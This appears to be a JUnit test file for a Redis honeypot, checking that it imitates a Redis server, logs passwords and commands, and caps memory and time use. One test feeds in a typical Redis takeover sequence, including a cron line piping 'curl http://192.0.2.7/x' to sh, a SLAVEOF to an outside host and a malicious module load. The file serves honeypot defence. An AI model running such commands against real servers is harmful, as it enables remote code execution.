// SPDX-License-Identifier: Apache-2.0
package io.honeymesh.trap.redis;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.honeymesh.api.Captured;
import io.honeymesh.api.Conversation;
import io.honeymesh.api.Conversation.Ending;
import io.honeymesh.api.Evidence;
import io.honeymesh.traps.TrapHarness;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

@Timeout(60)
class RedisTrapTest {

    private static final String HELLO =
            "*14\r\n$6\r\nserver\r\n$5\r\nredis\r\n$7\r\nversion\r\n$6\r\n7.0.15\r\n$5\r\nproto\r\n:2\r\n";

    private static String call(String... words) {
        StringBuilder call = new StringBuilder("*" + words.length + "\r\n");
        for (String word : words) {
            call.append('$').append(word.length()).append("\r\n").append(word).append("\r\n");
        }
        return call.toString();
    }

    private static boolean isIntent(Evidence evidence) {
        return evidence instanceof Evidence.Command
                || evidence instanceof Evidence.Credential
                || evidence instanceof Evidence.Upload;
    }

    @Test
    void anOpeningIsKeptAndIsNoIntent() throws IOException {
        try (TrapHarness trap = Nodes.open(Nodes::plain)) {
            String answer = trap.talk(call("HELLO", "2") + call("CLIENT", "SETNAME", "lib") + call("INFO", "server"));
            assertTrue(answer.startsWith(HELLO), answer);
            assertTrue(answer.contains("\r\nredis_version:7.0.15\r\nredis_git_sha1:00000000\r\n"), answer);
            Conversation seen = trap.conversation();
            assertTrue(seen.evidence().contains(new Evidence.Request(Captured.of("INFO server"))));
            assertTrue(seen.evidence().contains(new Evidence.Detail("redis.client", Captured.of("lib"))));
            assertTrue(seen.evidence().stream().noneMatch(RedisTrapTest::isIntent), seen::toString);
            assertEquals(Ending.CLIENT, seen.ending());
        }
    }

    @Test
    void aPasswordIsKeptAndTheRightOneLetsIn() throws IOException {
        int node = Nodes.node(i -> i.password().isPresent());
        String right =
                Instance.of(TrapHarness.persona(node), Instant.now()).password().orElseThrow();
        try (TrapHarness trap = Nodes.open(node)) {
            String answer = trap.talk(call("AUTH", "wrong")
                    + call("HELLO", "3", "AUTH", "root", "toor")
                    + call("AUTH", right)
                    + call("PING"));
            String refused = "-WRONGPASS invalid username-password pair or user is disabled.\r\n";
            assertEquals(refused + refused + "+OK\r\n+PONG\r\n", answer);
            List<Evidence> evidence = trap.conversation().evidence();
            assertTrue(evidence.contains(Evidences.credential("default", "wrong")));
            assertTrue(evidence.contains(Evidences.credential("root", "toor")));
            assertTrue(evidence.contains(Evidences.credential("default", right)));
            assertEquals(
                    1,
                    evidence.stream().filter(e -> e.toString().contains("toor")).count(),
                    "a password stands nowhere but in a credential");
        }
    }

    @Test
    void theUsualAttackIsBelievedAndKept() throws IOException {
        try (TrapHarness trap = Nodes.open(i -> i.password().isEmpty() && i.protectedSettings())) {
            String cron = "\n\n*/1 * * * * curl http://192.0.2.7/x | sh\n\n";
            String answer = trap.talk(call("CONFIG", "SET", "dir", "/var/spool/cron/crontabs")
                    + call("CONFIG", "SET", "dir", "/var/spool/cron")
                    + call("CONFIG", "SET", "dbfilename", "root")
                    + call("SET", "x", cron)
                    + call("GET", "x")
                    + call("SAVE")
                    + call("SLAVEOF", "192.0.2.7", "8080")
                    + call("MODULE", "LOAD", "./exp.so")
                    + call("system.exec", "id"));
            assertTrue(
                    answer.startsWith("-ERR CONFIG SET failed (possibly related to argument 'dir') - Permission denied"
                            + "\r\n+OK\r\n+OK\r\n+OK\r\n$" + cron.length() + "\r\n" + cron + "\r\n-ERR\r\n+OK\r\n"
                            + "-ERR MODULE command not allowed."),
                    answer);
            List<Evidence> evidence = trap.conversation().evidence();
            assertTrue(evidence.contains(new Evidence.Command(Captured.of("SET x " + cron))));
            assertTrue(evidence.contains(new Evidence.Command(Captured.of("SLAVEOF 192.0.2.7 8080"))));
            assertTrue(evidence.contains(new Evidence.Command(Captured.of("system.exec id"))));
        }
    }

    @Test
    void S01_aLuredBrowserIsNoIntentWhateverItSends() throws IOException {
        try (TrapHarness trap = Nodes.open(Nodes::plain)) {
            assertEquals(
                    "",
                    trap.talk("GET /x HTTP/1.1\r\nHost: a\r\nUser-Agent: b\r\n\r\nSET a b\r\n"),
                    "hung up without a word");
            assertEquals("", trap.talk("POST /x HTTP/1.1\r\nHost: a\r\n\r\nFLUSHALL\r\n"));
            for (int i = 0; i < 2; i++) {
                Conversation seen = trap.conversation();
                assertTrue(seen.lured());
                assertTrue(seen.evidence().stream().noneMatch(RedisTrapTest::isIntent), seen::toString);
            }
        }
    }

    @Test
    void anArgumentIsKeptWholeUpToItsBoundAndHashedBeyond() throws IOException {
        try (TrapHarness trap = Nodes.open(Nodes::plain)) {
            String longest = "v".repeat(RequestReader.MAX_WORD_BYTES);
            assertEquals(
                    "+OK\r\n:" + longest.length() + "\r\n", trap.talk(call("SET", "a", longest) + call("STRLEN", "a")));
            assertTrue(trap.conversation().evidence().stream().noneMatch(Evidence.Upload.class::isInstance));
            assertEquals("+OK\r\n", trap.talk(call("SET", "a", longest + "w")));
            Evidence.Upload upload = trap.conversation().evidence().stream()
                    .filter(Evidence.Upload.class::isInstance)
                    .map(Evidence.Upload.class::cast)
                    .findFirst()
                    .orElseThrow();
            assertEquals(longest.length() + 1, upload.sizeBytes());
            assertEquals(Evidences.MAX_TEXT_BYTES, upload.head().length());
            assertEquals("SET", upload.name().latin1());
        }
    }

    @Test
    void aPromisedLengthIsNotAllocatedAndAHugeOneIsRefused() throws IOException {
        try (TrapHarness trap = Nodes.open(Nodes::plain)) {
            assertEquals("", trap.talk("*1\r\n$" + (512L << 20) + "\r\nabc"));
            assertEquals(Ending.CLIENT, trap.conversation().ending());
            assertEquals(
                    "-ERR Protocol error: invalid bulk length\r\n",
                    trap.talk("*1\r\n$" + ((512L << 20) + 1) + "\r\nabc"));
            assertTrue(trap.conversation().evidence().getFirst() instanceof Evidence.Violation);
        }
    }

    @Test
    void manyArgumentsAreReadButOnlyTheFirstAreKept() throws IOException {
        try (TrapHarness trap = Nodes.open(Nodes::plain)) {
            StringBuilder many = new StringBuilder("*5001\r\n$6\r\nEXISTS\r\n");
            for (int i = 0; i < 5000; i++) {
                many.append("$1\r\na\r\n");
            }
            assertEquals(":0\r\n+PONG\r\n", trap.talk(many + call("PING")));
        }
    }

    @Test
    void whatAConversationStoresIsBounded() throws IOException {
        try (TrapHarness trap = Nodes.open(Nodes::plain)) {
            StringBuilder calls = new StringBuilder();
            String value = "v".repeat(1000);
            for (int i = 0; i < 200; i++) {
                calls.append(call("SET", "k" + i, value));
            }
            String answer = trap.talk(calls + call("EXISTS", "k1", "k199"));
            assertTrue(answer.endsWith("+OK\r\n:1\r\n"), "the first is there, the last is not");
        }
    }

    @Test
    void patternsOfDeathCostLittle() throws IOException {
        try (TrapHarness trap = Nodes.open(Nodes::plain)) {
            String pattern = "*a".repeat(120) + "b";
            StringBuilder calls = new StringBuilder(call("SET", "a".repeat(16_000), "v"));
            for (int i = 0; i < 2000; i++) {
                calls.append(call("KEYS", pattern));
            }
            long before = System.nanoTime();
            trap.talk(calls.toString());
            assertTrue(System.nanoTime() - before < 5_000_000_000L);
        }
    }

    @Test
    void twoNodesDifferAndOneStaysTheSame() throws IOException {
        String question = call("KEYS", "*") + call("CONFIG", "GET", "*") + call("INFO", "replication");
        try (TrapHarness one = Nodes.open(1);
                TrapHarness same = Nodes.open(1);
                TrapHarness other = Nodes.open(2)) {
            String first = one.talk(question).replace(Integer.toString(one.port()), "PORT");
            assertEquals(first, same.talk(question).replace(Integer.toString(same.port()), "PORT"));
            assertNotEquals(first, other.talk(question).replace(Integer.toString(other.port()), "PORT"));
        }
    }

    @Test
    void itKnowsItsOwnClientsByTheirFirstBytes() {
        RedisTrap trap = new RedisTrap();
        assertTrue(trap.canHandle("*1\r\n$4\r\nPING\r\n".getBytes(StandardCharsets.US_ASCII)));
        for (String other :
                List.of("*", "*1\r\n", "*x\r\n$", "GET / HTTP/1.1\r\n", "PING\r\n", "\u0016\u0003\u0001\0")) {
            assertFalse(trap.canHandle(other.getBytes(StandardCharsets.ISO_8859_1)), other);
        }
        assertFalse(trap.canHandle(new byte[0]));
    }
}
